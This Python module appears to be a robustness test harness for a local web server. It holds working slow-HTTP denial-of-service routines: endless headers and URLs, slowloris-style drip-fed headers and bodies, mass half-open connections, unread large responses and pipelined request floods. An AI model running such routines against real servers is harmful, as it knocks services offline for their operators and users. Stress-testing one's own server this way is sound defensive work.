"""Attacks on HTTP, before any request is complete."""

from __future__ import annotations

import asyncio
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

ATTACKER = "127.0.0.2"
HEAD = b"GET / HTTP/1.1\r\nhost: here\r\n"
LARGE = b"GET /api/openapi.json HTTP/1.1\r\nhost: here\r\n\r\n"

Story = Callable[[StreamReader, StreamWriter], Awaitable[None]]


async def opened(url: str) -> tuple[StreamReader, StreamWriter]:
    """A connection from the attacker's address."""
    parts = urlsplit(url)
    return await asyncio.open_connection(
        parts.hostname, parts.port, local_addr=(ATTACKER, 0), limit=1 << 20
    )


async def insist(url: str, story: Story, pause: float = 0.05) -> None:
    """Do it again and again, whatever the server does."""
    while True:
        try:
            reader, writer = await opened(url)
            try:
                await story(reader, writer)
            finally:
                writer.transport.abort()
        except OSError:
            pass
        await asyncio.sleep(pause)


async def together(url: str, seconds: float, story: Story, connections: int) -> None:
    """On so many connections, for so long."""
    tasks = [asyncio.create_task(insist(url, story)) for _ in range(connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def pour(writer: StreamWriter, piece: bytes) -> None:
    """The same without end, as fast as the server takes it."""
    while True:
        writer.write(piece)
        await writer.drain()


async def drip(writer: StreamWriter, piece: bytes) -> None:
    """The same without end, once a second."""
    while not writer.transport.is_closing():
        writer.write(piece)
        await asyncio.sleep(1)


async def endless_headers(url: str, seconds: float) -> None:
    """One connection, one request, headers that never end."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.write(HEAD)
        await pour(writer, (b"x: " + 1000 * b"y" + b"\r\n") * 60)

    await together(url, seconds, story, 1)


async def endless_url(url: str, seconds: float) -> None:
    """One connection, one request, a path that never ends."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.write(b"GET /")
        await pour(writer, 60_000 * b"y")

    await together(url, seconds, story, 1)


async def slow_heads(url: str, seconds: float) -> None:
    """Heads that come byte for byte."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.write(HEAD + b"x: ")
        await drip(writer, b"y")

    await together(url, seconds, story, 400)


async def half_requests(url: str, seconds: float) -> None:
    """More connections than a process usually has descriptors, each with half a request."""

    async def story(reader: StreamReader, writer: StreamWriter) -> None:
        writer.write(HEAD)
        await reader.read()

    await together(url, seconds, story, 1100)


async def slow_bodies(url: str, seconds: float) -> None:
    """Bodies that come byte for byte."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.write(b"POST /api/players HTTP/1.1\r\nhost: here\r\n")
        writer.write(b"content-type: application/json\r\ncontent-length: 9999\r\n\r\n")
        await drip(writer, b" ")

    await together(url, seconds, story, 400)


async def slow_readers(url: str, seconds: float) -> None:
    """Large answers that are asked for again and again, and never read."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        while not writer.transport.is_closing():
            writer.write(LARGE)
            await asyncio.sleep(0.2)

    await together(url, seconds, story, 50)


async def pipelines(url: str, seconds: float) -> None:
    """Thousands of requests at once on each connection."""

    async def story(_: StreamReader, writer: StreamWriter) -> None:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        await pour(writer, b"GET / HTTP/1.1\r\n\r\n" * 10_000)

    await together(url, seconds, story, 20)


ATTACKS = [
    endless_headers,
    endless_url,
    slow_heads,
    half_requests,
    slow_bodies,
    slow_readers,
    pipelines,
]
